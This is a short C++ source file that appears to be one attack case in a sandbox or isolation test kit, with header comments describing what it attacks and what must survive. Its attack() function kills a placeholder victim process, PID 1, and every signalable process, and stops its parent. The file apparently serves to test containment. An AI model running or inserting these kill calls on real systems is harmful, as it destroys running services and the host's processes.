// SPDX-License-Identifier: MIT
// attacks: signals every process that it may signal, and the host's by number
// control: honest
// earns: at most its control
// must stay: processes, neighbours
#include <signal.h>
#include <unistd.h>

#include <cstdlib>

#include "kit/attack.h"

static void attack() {
  kill(std::atoi("@VICTIM@"), SIGKILL);
  kill(1, SIGKILL);
  kill(getppid(), SIGSTOP);
  kill(-1, SIGKILL);
}

#include "kit/attack_first.cu"
